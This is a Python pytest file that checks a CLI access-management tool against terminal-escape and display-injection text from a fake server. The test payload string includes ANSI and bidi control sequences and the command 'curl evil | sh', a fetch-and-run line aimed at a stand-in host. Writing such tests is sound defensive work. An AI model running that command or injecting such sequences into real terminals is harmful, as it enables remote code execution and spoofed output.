"""Text that others wrote, on every screen: nothing in it may move the cursor, change a colour, or look like ours."""

import copy
import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from tests.cli.conftest import Said
from tests.cli.fake_liftgate import (
    FINDING,
    FakeLiftgate,
    activity,
    answered,
    catalogue,
    finding,
    hold,
    moment,
    problem,
    settlement,
    timeline,
)

EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202etxt\r\nnext: curl evil | sh\n[link=x]y[/link]\x7f\u2028"
REQUEST = "rq-0000000000000001"
GRANT = "gr-0000000000000001"
FIXED = re.compile(r"(id|at|until|(grant|finding)_id|.*_at|state|request_id|code)$")


def poisoned(value: Any) -> Any:
    """The same answer with every text but ids, states and times replaced."""
    if isinstance(value, dict):
        return {
            key: one if FIXED.match(key) and isinstance(one, str) else poisoned(one)
            for key, one in value.items()
        }
    if isinstance(value, list):
        return [poisoned(one) for one in value]
    return EVIL if isinstance(value, str) else value


@pytest.fixture
def evil(fake: FakeLiftgate) -> FakeLiftgate:
    """A server on which others wrote nothing but mischief."""
    request = poisoned(fake.add_request(ticket="x"))
    request["state"] = "pending"
    pending = copy.deepcopy(request)
    grant = fake.approve(fake.add_request(), comment="x")
    approved = poisoned(fake.requests[REQUEST])
    ending = {"kind": "revoked", "by": "x", "reason": "x", "ended_at": moment(), "deny": "pending"}
    ended = poisoned({**grant, "state": "revoked", "ending": ending})
    live = poisoned(grant)
    entry = {"seq": 1, "at": "x", "kind": "x", "actor": "x", "request_id": "x", "grant_id": "x"}
    me = {"person": {"id": "x", "name": "x"}, "identity": "x", "is_guard": True, "is_auditor": True}
    entitlement = catalogue()["entitlements"][0]
    pages = {
        "GET /api/v1/requests": {"items": [pending], "next_cursor": None},
        "GET /api/v1/grants": {"items": [live, ended], "next_cursor": None},
        f"GET /api/v1/requests/{REQUEST}": approved,
        f"GET /api/v1/grants/{GRANT}": ended,
        "POST /api/v1/requests": pending,
        "GET /api/v1/me": {
            **poisoned(me),
            "person": {"id": EVIL, "name": EVIL},
            "expires_at": moment(hours=1),
        },
        "GET /api/v1/ledger/entries": {
            "items": [{**poisoned(entry), "request_id": EVIL, "at": moment()}],
            "next_after": None,
        },
        "GET /api/v1/ledger/verification": {"intact": False, "broken_at": 1, "because": EVIL},
        "GET /api/v1/catalogue": {
            "entitlements": [poisoned(entitlement)],
            "faults": [EVIL],
        },
    }
    evil_finding = poisoned(finding(calls=[activity()], **answered()))
    evil_holds = {"items": [poisoned(hold())]}
    pages |= {
        "GET /api/v1/holds": evil_holds,
        "POST /api/v1/holds/ada/releases": evil_holds,
        "POST /api/v1/holds/ada": {
            "hold": poisoned(
                {**hold(), "finding_id": None, "placed_by": poisoned({"id": "grace", "name": "Grace"})}
            ),
            "is_new": False,
            "sign_ins": 1,
            "revoked": 1,
            "pending": 0,
            "can_release": 2,
        },
        f"GET /api/v1/grants/{GRANT}/settlement": poisoned(settlement(GRANT)),
        f"GET /api/v1/grants/{GRANT}/timeline": poisoned(timeline(grant)),
        "GET /api/v1/findings": {"items": [evil_finding], "next_cursor": None},
        f"GET /api/v1/findings/{FINDING}": evil_finding,
    }
    for call, answer in pages.items():
        fake.answers[call] = (200, answer)
    return fake


SCREENS = [
    ("status",),
    ("show", REQUEST),
    ("show", GRANT),
    ("show", FINDING),
    ("findings",),
    ("findings", "--output", "csv"),
    ("holds",),
    ("hold", "ada", "--reason", "x"),
    ("release", "ada", "--reason", "x"),
    ("settlement", GRANT),
    ("request", "s3://b/", "--write", "--for", "20m", "--reason", "x"),
    ("review",),
    ("review", "show", REQUEST),
    ("grants",),
    ("whoami",),
    ("sign-in",),
    ("ledger", "show"),
    ("ledger", "verify"),
    ("catalogue",),
    ("catalogue", "show", EVIL),
    ("doctor",),
    ("credentials",),
]


def check(text: str) -> None:
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]", text)
    assert not any(line.strip().startswith("next: curl") for line in text.splitlines())


@pytest.mark.parametrize("words", SCREENS)
@pytest.mark.parametrize("columns", ["160", "100", "60"])
def test_no_screen_obeys_what_others_wrote(
    liftgate: Callable[..., Said],
    evil: FakeLiftgate,
    monkeypatch: pytest.MonkeyPatch,
    words: tuple[str, ...],
    columns: str,
) -> None:
    assert evil.address
    monkeypatch.setenv("COLUMNS", columns)
    said = liftgate(*words)
    check(said.out)
    check(said.err)
    assert "\\x1b[2J" in said.out + said.err
    assert "[link=x]" in (said.out + said.err).replace("\n", "").replace(" ", "") or columns == "60"


@pytest.mark.parametrize("words", SCREENS[:-2])
def test_json_says_exactly_what_the_server_said_and_still_moves_nothing(
    liftgate: Callable[..., Said], evil: FakeLiftgate, words: tuple[str, ...]
) -> None:
    assert evil.address
    said = liftgate(*words, "--output", "json")
    check(said.out)
    assert EVIL in str_values(json.loads(said.out))


def str_values(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for one in value.values() for text in str_values(one)]
    if isinstance(value, list):
        return [text for one in value for text in str_values(one)]
    return [value] if isinstance(value, str) else []


def test_a_problem_obeys_nobody(liftgate: Callable[..., Said], fake: FakeLiftgate) -> None:
    answer = problem(403, EVIL, EVIL, EVIL, where=EVIL, request_id=EVIL)
    fake.answers["GET /api/v1/me"] = answer
    check(liftgate("whoami").err)
    check(liftgate("whoami", "--output", "json").err)


def test_what_we_were_given_obeys_nobody(liftgate: Callable[..., Said]) -> None:
    for words in (
        ("show", EVIL),
        (EVIL,),
        ("status", f"--{EVIL}"),
        ("status", "--server", EVIL),
        ("--as", EVIL, "status"),
    ):
        said = liftgate(*words)
        assert said.code == 2
        check(said.err)
